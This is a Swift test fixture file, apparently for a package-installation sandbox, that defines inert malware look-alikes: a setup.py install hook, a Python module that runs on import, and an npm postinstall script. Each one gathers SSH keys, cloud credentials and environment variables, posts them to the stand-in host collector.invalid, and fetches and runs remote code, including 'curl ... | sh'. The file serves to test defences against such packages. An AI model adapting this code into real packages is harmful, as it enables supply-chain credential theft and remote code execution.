import AirlockTestSupport

/// Inert look-alikes: texts that read like malware and can do nothing, since every host ends in `.invalid`, and that
/// leave a marker when any of their code runs.
enum Fixtures {
    /// A `setup.py` whose install hook collects, sends, fetches and runs.
    static func actingSetup(name: String, marker: String) -> String {
        """
        import os
        open('\(marker)', 'a').write('setup.py of \(name)\\n')
        import base64, getpass, json, platform, socket, subprocess, tempfile, urllib.request
        from setuptools import setup
        from setuptools.command.install import install

        def collect():
            facts = {'host': socket.gethostname(), 'user': getpass.getuser(), 'system': platform.platform(),
                     'variables': dict(os.environ)}
            for path in ('~/.ssh/id_rsa', '~/.aws/credentials', '~/.npmrc', '~/.pypirc'):
                try:
                    facts[path] = open(os.path.expanduser(path)).read()
                except Exception:
                    pass
            body = base64.b64encode(json.dumps(facts).encode())
            urllib.request.urlopen(urllib.request.Request('https://collector.invalid/in', data=body, method='POST'))

        def stage():
            data = urllib.request.urlopen('https://collector.invalid/stage.bin').read()
            path = os.path.join(tempfile.gettempdir(), 'stage')
            with open(path, 'wb') as out:
                out.write(data)
            os.chmod(path, 0o755)
            subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            exec(base64.b64decode(urllib.request.urlopen('https://collector.invalid/next').read()))

        class Hook(install):
            def run(self):
                install.run(self)
                try:
                    collect()
                    stage()
                except Exception:
                    pass

        setup(name='\(name)', version='1.0.0', py_modules=[], cmdclass={'install': Hook})

        """
    }

    /// A pure wheel with one module.
    static func wheel(_ name: String, version: String = "1.0.0", files: [String: String] = [:]) -> [UInt8] {
        LoopbackRegistry.wheel(name, version, files: files)
    }

    /// An sdist that builds itself with a backend of its own, needs nothing, and leaves the marker when it does.
    static func plainSdist(name: String, marker: String) -> [String: String] {
        [
            "pyproject.toml": """
            [build-system]
            requires = []
            build-backend = "backend"
            backend-path = ["."]

            """,
            "backend.py": """
            import os, zipfile

            def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                with open('\(marker)', 'a') as log:
                    log.write('backend of \(name)\\n')
                filename = '\(name)-1.0.0-py3-none-any.whl'
                info = '\(name)-1.0.0.dist-info/'
                with zipfile.ZipFile(os.path.join(wheel_directory, filename), 'w') as wheel:
                    wheel.writestr('\(name).py', 'value = 1\\n')
                    wheel.writestr(info + 'METADATA', 'Metadata-Version: 2.1\\nName: \(name)\\nVersion: 1.0.0\\n')
                    wheel.writestr(info + 'WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
                    wheel.writestr(info + 'RECORD', '')
                return filename

            def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
                return build_wheel(wheel_directory)

            """,
        ]
    }

    /// A module whose import collects, sends and runs.
    static let actingModule = """
        import base64, json, os, platform, socket, subprocess, urllib.request

        def collect():
            facts = {'host': socket.gethostname(), 'system': platform.platform(), 'variables': dict(os.environ)}
            for path in ('~/.ssh/id_rsa', '~/.aws/credentials', '~/.npmrc'):
                try:
                    facts[path] = open(os.path.expanduser(path)).read()
                except Exception:
                    pass
            body = base64.b64encode(json.dumps(facts).encode())
            urllib.request.urlopen('https://collector.invalid/in', data=body)
            exec(base64.b64decode(urllib.request.urlopen('https://collector.invalid/next').read()))
            subprocess.Popen('curl -s https://collector.invalid/run.sh | sh', shell=True)

        collect()

        """

    /// A script for npm's `postinstall` that collects, sends, fetches and runs.
    static func actingScript(marker: String) -> String {
        """
        require('fs').appendFileSync('\(marker)', 'postinstall ran\\n');
        const https = require('https'), os = require('os'), fs = require('fs'), path = require('path');
        const { exec } = require('child_process');
        function collect() {
          const facts = { host: os.hostname(), user: os.userInfo().username, home: os.homedir(), env: process.env };
          for (const name of ['.ssh/id_rsa', '.npmrc', '.aws/credentials']) {
            try { facts[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (error) {}
          }
          const body = Buffer.from(JSON.stringify(facts)).toString('base64');
          const request = https.request({ hostname: 'collector.invalid', path: '/in', method: 'POST' });
          request.on('error', () => {});
          request.write(body);
          request.end();
        }
        function stage() {
          https.get('https://collector.invalid/stage', (response) => {
            let text = '';
            response.on('data', (part) => { text += part; });
            response.on('end', () => { eval(Buffer.from(text, 'base64').toString()); });
          }).on('error', () => {});
          exec('curl -s https://collector.invalid/run.sh | sh', () => {});
        }
        collect();
        stage();

        """
    }
}
